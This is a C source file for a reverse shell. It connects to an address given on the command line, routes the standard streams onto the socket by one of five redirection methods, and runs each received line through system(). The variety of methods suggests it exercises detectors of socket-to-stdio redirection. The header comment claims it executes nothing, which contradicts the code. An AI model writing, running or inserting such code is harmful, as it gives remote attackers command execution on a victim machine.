/* Makes a connection its own streams without executing anything on them, then runs each line as a command.
 *
 * dup2|dup3|fcntl|close|connect-0 ADDRESS PORT
 *
 * "close" closes standard input, so that the socket gets its number; "connect-0" connects it only after that.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in peer = { .sin_family = AF_INET };
	const char *way = argc > 1 ? argv[1] : "";
	char line[4096];
	int fd;

	if (argc != 4)
		errx(2, "dup2|dup3|fcntl|close|connect-0 ADDRESS PORT");
	peer.sin_port = htons(strtoul(argv[3], NULL, 10));
	if (inet_pton(AF_INET, argv[2], &peer.sin_addr) != 1)
		errx(2, "not an IPv4 address: %s", argv[2]);
	if (strcmp(way, "close") == 0)
		close(0);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		err(1, "socket");
	if (strcmp(way, "connect-0") == 0) {
		for (int stream = 0; stream < 3; stream++)
			dup2(fd, stream);
		close(fd);
		fd = 0;
	}
	if (connect(fd, (void *)&peer, sizeof(peer)))
		err(1, "connect");
	for (int stream = 0; stream < 3 && fd != 0; stream++) {
		if (strcmp(way, "dup3") == 0) {
			dup3(fd, stream, 0);
		} else if (strcmp(way, "fcntl") == 0) {
			close(stream);
			fcntl(fd, F_DUPFD, stream);
		} else {
			dup2(fd, stream);
		}
	}
	if (strcmp(way, "close") == 0) {
		dup2(0, 1);
		dup2(0, 2);
	}
	while (fgets(line, sizeof(line), stdin))
		system(line);
	return 0;
}
